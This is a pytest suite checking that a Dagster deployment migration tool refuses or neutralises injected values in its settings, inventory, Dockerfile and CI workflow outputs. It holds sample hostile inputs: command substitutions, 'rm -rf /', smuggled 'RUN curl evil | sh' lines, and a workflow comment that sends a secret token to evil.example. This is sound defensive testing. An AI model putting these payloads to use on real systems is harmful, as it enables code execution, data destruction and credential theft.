"""Hostile input, values that could become code: a value that is not what its place takes is
refused where it comes in (exit 2, `file:line: key: what`, nothing written); a value that is
allowed through (an environment variable's value, a path, a URL) is rendered inert in every
generated file: shell files pass `bash -n` and reach no new command substitution, YAML and JSON
files read back to the same value, Dockerfiles gain no instruction."""

from __future__ import annotations

import json
import re
import subprocess

import pytest
import yaml
from support.hostile import OK_CLOUD, assert_refused, plan, plan_with_settings, tree, write

from migration_pipeline.plan.dockerfile import BuildContext, render_dockerfile
from migration_pipeline.targets import get_target, load_target_settings
from migration_pipeline.targets.agent import AgentSetup

INJECTIONS = ["x; touch /tmp/pwned", "$(id)", "`id`", "a\nb", "a\rb", "${HOME}", "x' y", 'x" y']


@pytest.fixture
def project(tmp_path):
    return write(tmp_path / "project", {"dagster_cloud.yaml": OK_CLOUD, "requirements.txt": ""})


def location_file(name: str = "ok", **extra: str) -> str:
    lines = [
        f"locations:\n  - location_name: {json.dumps(name)}\n",
        "    code_source:\n      package_name: ok\n",
    ]
    lines += [f"    {key}: {value}\n" for key, value in extra.items()]
    return "".join(lines)


@pytest.mark.parametrize("name", INJECTIONS)
def test_a_location_name_that_would_be_code(project, name):
    (project / "dagster_cloud.yaml").write_text(location_file(name))
    before = tree(project)
    assert_refused(plan(project), "dagster_cloud.yaml:2: locations[0].location_name:")
    assert tree(project) == before


@pytest.mark.parametrize(
    "key,value",
    [
        ("working_directory", json.dumps("/app\nRUN curl evil | sh")),
        ("working_directory", json.dumps("/opt/$(id)")),
        ("executable_path", json.dumps("/usr/bin/python\nx")),
        ("image", json.dumps("python:3.11\nRUN id")),
        ("image", json.dumps("python:3.11 ; id")),
    ],
)
def test_a_location_value_that_would_add_a_line(project, key, value):
    (project / "dagster_cloud.yaml").write_text(location_file(**{key: value}))
    before = tree(project)
    assert_refused(plan(project), "dagster_cloud.yaml:", f"locations[0].{key}:")
    assert tree(project) == before


@pytest.mark.parametrize(
    "target,settings,fragment",
    [
        ("kubernetes", 'base_image: "python:3.11\\nRUN curl evil | sh"\n', "base_image:"),
        ("kubernetes", "base_image: python:3.11 --privileged\n", "base_image:"),
        ("kubernetes", 'python_version: "3.11\\nRUN id"\n', "python_version:"),
        ("kubernetes", "namespace: data; rm -rf /\n", "namespace:"),
        ("kubernetes", 'namespace: "$(id)"\n', "namespace:"),
        ("kubernetes", 'env_vars: ["A=1\\nB=2"]\n', "env_vars[0]:"),
        ("kubernetes", "env_vars: ['$(id)=1']\n", "env_vars[0]:"),
        ("kubernetes", 'image_pull_secrets: ["a b"]\n', "image_pull_secrets[0]:"),
        ("kubernetes", 'service_account_name: "x`id`"\n', "service_account_name:"),
        ("kubernetes", 'organization: "acme$(id)"\n', "organization:"),
        ("ecs", 'aws_region: "us-east-1$(id)"\n', "aws_region:"),
        ("ecs", 'aws_region: "us-east-1\\n"\n', "aws_region:"),
        ("ecs", 'task_role_arn: "arn:aws:iam::123456789012:role/x\\ny"\n', "task_role_arn:"),
        (
            "ecs",
            "secrets: [{name: 'A B', valueFrom: 'arn:aws:ssm:us-east-1:123456789012:p'}]\n",
            "secrets[0].name:",
        ),
        ("local", 'executable_path: "/usr/bin/python\\nrm -rf /"\n', "executable_path:"),
    ],
)
def test_a_setting_that_would_be_code(project, tmp_path, target, settings, fragment):
    before = tree(project)
    outcome = plan_with_settings(
        project, tmp_path, settings, target, "123456789012.dkr.ecr.us-east-1.amazonaws.com/acme"
    )
    assert_refused(outcome, "settings.yaml:", fragment)
    assert tree(project) == before


@pytest.mark.parametrize(
    "registry",
    [
        "ghcr.io/acme\n",
        "ghcr.io/acme;id",
        "ghcr.io/$(id)",
        "https://ghcr.io/acme",
        "GHCR.io/acme",
        "ghcr.io/acme:tag",
    ],
)
def test_a_registry_that_is_not_a_repository(project, registry):
    before = tree(project)
    assert_refused(plan(project, registry=registry), "--registry:", "not a registry reference")
    assert tree(project) == before


@pytest.mark.parametrize(
    "field,value",
    [
        ("deployment", "prod; curl evil"),
        ("deployment", "$(id)"),
        ("deployment", "prod\n"),
        ("organization_url", "https://acme.dagster.cloud\n"),
        ("organization_url", "https://acme.dagster.cloud/$(id)"),
        ("organization_url", "javascript:alert(1)"),
    ],
)
def test_an_inventory_value_that_would_be_code(project, tmp_path, field, value):
    inventory = {
        "organization_url": "https://acme.dagster.cloud",
        "deployment": "prod",
        "deployment_id": 1,
        "agent_type": "SERVERLESS",
        "serverless_status": "ACTIVE",
        "agents": [],
        "locations_document": {"locations": []},
        "locations": [],
        "settings": {},
        "run_counts": {},
        field: value,
    }
    (tmp_path / "inventory.json").write_text(json.dumps(inventory))
    before = tree(project)
    assert_refused(
        plan(project, "--inventory", str(tmp_path / "inventory.json")),
        "inventory.json:",
        f"{field}:",
    )
    assert tree(project) == before


# -- what is allowed through is rendered inert ---------------------------------------------------

HOSTILE_VALUE = "$(touch /tmp/pwned) `id` ${HOME} 'q' \"d\" ; rm -rf / # & | > <"
# What each target's settings allow through that lands in a generated file.
HOSTILE_SETTINGS = {
    "kubernetes": f"env_vars: [{json.dumps('A=' + HOSTILE_VALUE)}]\n",
    "azure": f"env_vars: [{json.dumps('A=' + HOSTILE_VALUE)}]\n",
    "ecs": f"env_vars: [{json.dumps('A=' + HOSTILE_VALUE)}]\n",
    "docker": f"env_vars: [{json.dumps('A=' + HOSTILE_VALUE)}]\n"
    f"container_kwargs: {{labels: {{x: {json.dumps(HOSTILE_VALUE)}}}}}\n",
    "local": "executable_path: /opt/python $(id)/bin/python3\n",
}
BASE_SETTINGS = {"ecs": "aws_region: us-east-1\n"}
REGISTRIES = {
    "kubernetes": "ghcr.io/acme",
    "azure": "acmedata.azurecr.io/dagster",
    "ecs": "123456789012.dkr.ecr.us-east-1.amazonaws.com/acme",
    "docker": "localhost:5000/acme",
    "local": None,
}


def agent_files(target: str, hostile: bool) -> dict[str, str]:
    text = BASE_SETTINGS.get(target, "") + (HOSTILE_SETTINGS[target] if hostile else "")
    settings = load_target_settings(target, text or None, registry=REGISTRIES[target])
    # The token's place comes from the secret store: quoted like any value all the same.
    reference = "arn:aws:secretsmanager:us-east-1:123456789012:secret:t" + (
        "$(id)`id`'\"" if hostile else ""
    )
    setup = AgentSetup(
        organization="acme",
        deployment="prod",
        agent_label="migration_pipeline prod agent (token 7)",
        settings=settings,
        token_reference=reference,
        agent_api_url="https://acme.agent.dagster.cloud/%24%28id%29" if hostile else "",
    )
    return get_target(target).agent_files(setup)


def substitutions(script: str) -> int:
    """How many command or parameter substitutions bash could reach: `$(`, backquotes and `${`
    outside single quotes and quoted here-documents."""
    count, quote = 0, ""
    skip_until = None
    for line in script.split("\n"):
        if skip_until is not None:
            if line.strip() == skip_until:
                skip_until = None
            continue
        index = 0
        while index < len(line):
            char = line[index]
            if quote == "'":
                if char == "'":
                    quote = ""
            elif char == "\\":
                index += 1
            elif char == "'" and quote != '"':
                quote = "'"
            elif char == '"':
                quote = "" if quote == '"' else '"'
            elif char == "#" and not quote and (index == 0 or line[index - 1] in " \t"):
                break
            elif line.startswith(("$(", "${"), index) or char == "`":
                count += 1
            index += 1
        if "<<'" in line and not quote:  # a quoted here-document: its body is not expanded
            skip_until = line.split("<<'", 1)[1].split("'", 1)[0]
    return count


@pytest.mark.parametrize("target", list(HOSTILE_SETTINGS))
def test_every_agent_file_renders_a_hostile_value_inert(tmp_path, target):
    benign, hostile = agent_files(target, False), agent_files(target, True)
    assert sorted(benign) == sorted(hostile)
    for name, text in hostile.items():
        if name.endswith(".sh"):
            path = tmp_path / name
            path.write_text(text)
            checked = subprocess.run(["bash", "-n", str(path)], capture_output=True, text=True)
            assert checked.returncode == 0, (name, checked.stderr)
            assert substitutions(text) == substitutions(benign[name]), name
        elif name.endswith((".yaml", ".yml")):
            assert yaml.safe_load(text) is not None, name
        elif name.endswith(".json"):
            json.loads(text)
    if target in ("kubernetes", "azure"):
        values = yaml.safe_load(hostile["values.yaml"])
        assert values["workspace"]["envVars"] == ["A=" + HOSTILE_VALUE]
        assert values["dagsterCloud"]["endpoint"] == "https://acme.agent.dagster.cloud/%24%28id%29"


@pytest.mark.parametrize("target", list(HOSTILE_SETTINGS))
def test_the_rewritten_dagster_cloud_yaml_holds_a_hostile_value_as_data(tmp_path, target):
    project = write(tmp_path / "p", {"dagster_cloud.yaml": OK_CLOUD, "requirements.txt": ""})
    (tmp_path / "settings.yaml").write_text(
        BASE_SETTINGS.get(target, "") + HOSTILE_SETTINGS[target]
    )
    outcome = plan(
        project,
        "--settings",
        str(tmp_path / "settings.yaml"),
        target=target,
        registry=REGISTRIES[target],
    )
    assert outcome.code == 0, outcome.err
    location = yaml.safe_load((project / "dagster_cloud.yaml").read_text())["locations"][0]
    if target == "local":
        assert location["executable_path"] == "/opt/python $(id)/bin/python3"
        return
    key = {"kubernetes": "k8s", "azure": "k8s"}.get(target, target)
    context = location["container_context"][key]
    assert context["env_vars"] == ["A=" + HOSTILE_VALUE]
    if target == "docker":
        assert context["container_kwargs"] == {"labels": {"x": HOSTILE_VALUE}}


def test_the_ci_files_render_hostile_values_inert():
    from migration_pipeline.ci import common, github, gitlab

    builds = (common.ImageBuild("ok", ".", "ghcr.io/acme/ok", "Dockerfile.x", "stage-1"),)
    setup = common.CiSetup(
        builds, "https://acme.dagster.cloud", "acme", "prod", "3.11", "dagster_cloud.yaml", True
    )
    triggers = {"push": {"branches": ["main", HOSTILE_VALUE]}}
    workflow, _ = github.hybrid_workflow(setup, triggers)
    parsed = yaml.safe_load(workflow)
    on = parsed.get("on", parsed.get(True))
    assert on["push"]["branches"] == ["main", HOSTILE_VALUE]  # data, not code
    for step in parsed["jobs"]["dagster_plus_deploy"]["steps"]:
        assert HOSTILE_VALUE not in step.get("run", "")
    job, _ = gitlab.hybrid_job(setup)
    for line in yaml.safe_load(job)["dagster_plus_hybrid_deploy"]["script"]:
        assert "$(" not in line and "`" not in line


def test_a_dockerfile_never_takes_a_value_with_a_newline():
    for bad in (
        BuildContext(("ok",), base_image="python:3.11\nRUN id"),
        BuildContext(("ok\nRUN id",)),
        BuildContext(("ok",), working_directory="/app\nRUN id"),
        BuildContext(("ok",), working_directory="/opt/$HOME"),
    ):
        with pytest.raises(ValueError, match="not written into a Dockerfile"):
            render_dockerfile(bad)
    good = render_dockerfile(BuildContext(("ok",), working_directory="/opt/app"))
    assert [line.split()[0] for line in good.splitlines() if line and line[0] != "#"] == [
        "FROM",
        "ENV",
        "WORKDIR",
        "COPY",
        "RUN",
    ]


# -- values from old files that become CI (issue 20, class 3) ----------------------------------

_SERVERLESS_ENV = """\
name: Serverless
on:
  push:
    branches: [main]
env:
  # DAGSTER_CLOUD_URL: https://evil.example/${{ secrets.DAGSTER_CLOUD_API_TOKEN }}
  ENABLE_FAST_DEPLOYS: "true"
{url}jobs:
  deploy:
    runs-on: ubuntu-latest
    steps:
      - uses: dagster-io/dagster-cloud-action/actions/serverless_prod_deploy@v1.13.27
"""
_OUR_EXPRESSIONS = re.compile(
    r"\$\{\{ (github|secrets|env|runner)\.[\w.-]+( [=!]= '[\w-]+'( && (github|env)\.[\w.-]+ "
    r"[=!]= '[\w-]+')?( && '[\w-]+' \|\| '[\w-]+')?)? \}\}"
)


def _plan_ci(tmp_path, files: dict[str, str], cloud: str | None = None):
    from migration_pipeline.layouts.files import read_project
    from migration_pipeline.plan.core import make_plan
    from migration_pipeline.targets import load_target_settings

    cloud = (
        cloud or "locations:\n  - location_name: etl\n    code_source:\n      package_name: etl\n"
    )
    for relative, text in {"dagster_cloud.yaml": cloud, **files}.items():
        (tmp_path / relative).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / relative).write_text(text)
    settings = load_target_settings("kubernetes", "", registry="ghcr.io/acme")
    return make_plan(read_project(tmp_path), "kubernetes", settings)


def _workflow_env(plan) -> dict:
    (workflow,) = [f for f in plan.files if f.path.startswith(".github/")]
    return yaml.safe_load(workflow.new)["env"]


def test_the_url_is_read_from_the_parsed_workflow_not_from_a_comment(tmp_path):
    flow = _SERVERLESS_ENV.format(url='  DAGSTER_CLOUD_URL: "https://acme.dagster.cloud"\n')
    plan = _plan_ci(tmp_path, {".github/workflows/deploy.yml": flow})
    assert _workflow_env(plan)["DAGSTER_CLOUD_URL"] == "https://acme.dagster.cloud"


def test_a_url_only_in_a_comment_is_not_taken(tmp_path):
    plan = _plan_ci(tmp_path, {".github/workflows/deploy.yml": _SERVERLESS_ENV.format(url="")})
    env = _workflow_env(plan)
    assert "evil" not in env["DAGSTER_CLOUD_URL"]
    assert any("the Dagster+ URL is not known" in w.message for w in plan.warnings)


@pytest.mark.parametrize(
    "url",
    [
        "https://acme.dagster.cloud/${{ secrets.DAGSTER_CLOUD_API_TOKEN }}",
        "https://acme.dagster.cloud/$CI_JOB_TOKEN",
        "https://evil.example",  # a URL, but not a Dagster+ organization's
    ],
)
def test_a_url_that_is_not_a_dagster_plus_url_is_not_taken(tmp_path, url):
    gitlab = f'variables:\n  DAGSTER_CLOUD_URL: "{url}"\ndeploy:\n  script:\n    - dagster-cloud serverless deploy-python-executable\n'
    plan = _plan_ci(tmp_path, {".gitlab-ci.yml": gitlab})
    (job_file,) = [f for f in plan.files if f.path.startswith(".gitlab/")]
    assert "$CI_JOB_TOKEN" not in job_file.new and "${{" not in job_file.new
    assert "evil" not in job_file.new


@pytest.mark.parametrize(
    "value", ["${{ github.event.pull_request.title }}", "$(id)", "dir/`id`", "$CI_JOB_TOKEN"]
)
def test_a_build_directory_with_runner_syntax_is_refused_with_its_line(tmp_path, value):
    from migration_pipeline.lib.problems import InvalidInput

    cloud = (
        "locations:\n  - location_name: etl\n    code_source:\n      package_name: etl\n"
        f"    build:\n      directory: '{value}'\n"
    )
    flow = _SERVERLESS_ENV.format(url="")
    with pytest.raises(InvalidInput) as refused:
        _plan_ci(tmp_path, {".github/workflows/deploy.yml": flow}, cloud)
    assert "dagster_cloud.yaml:6: locations[0].build.directory:" in str(refused.value)


def test_a_legacy_dockerfile_with_an_expression_is_refused(tmp_path):
    from migration_pipeline.lib.problems import InvalidInput

    cloud = "locations:\n  etl:\n    package_name: etl\n    dockerfile: '${{ github.event.pull_request.title }}'\n"
    with pytest.raises(InvalidInput) as refused:
        _plan_ci(tmp_path, {}, cloud)
    assert "dagster_cloud.yaml:4:" in str(refused.value)


@pytest.mark.parametrize(
    ("files", "fragment"),
    [
        ({"build.yaml": "directory: '${{ github.event.pull_request.title }}'\n"}, "build.yaml:1:"),
        (
            {"dg.toml": 'directory_type = "workspace"\n\n[[workspace.projects]]\npath = "$(id)"\n'},
            "dg.toml:3:",
        ),
    ],
)
def test_dg_values_with_runner_syntax_are_refused(tmp_path, files, fragment):
    from test_dg_projects import project_files

    from migration_pipeline.layouts.files import read_project
    from migration_pipeline.lib.problems import InvalidInput
    from migration_pipeline.plan.core import make_plan
    from migration_pipeline.targets import load_target_settings

    root = tmp_path / "shop"
    for relative, text in {**project_files("shop"), **files}.items():
        (root / relative).parent.mkdir(parents=True, exist_ok=True)
        (root / relative).write_text(text)
    settings = load_target_settings("kubernetes", "", registry="ghcr.io/acme")
    with pytest.raises(InvalidInput) as refused:
        make_plan(read_project(root), "kubernetes", settings)
    assert fragment in str(refused.value) and "may not hold `$`" in str(refused.value)


def test_every_expression_in_a_generated_workflow_is_the_generators_own(tmp_path):
    flow = _SERVERLESS_ENV.format(url='  DAGSTER_CLOUD_URL: "https://acme.dagster.cloud"\n')
    plan = _plan_ci(tmp_path, {".github/workflows/deploy.yml": flow})
    (workflow,) = [f for f in plan.files if f.path.startswith(".github/")]
    for expression in re.findall(r"\$\{\{.*?\}\}", workflow.new):
        assert _OUR_EXPRESSIONS.fullmatch(expression), expression
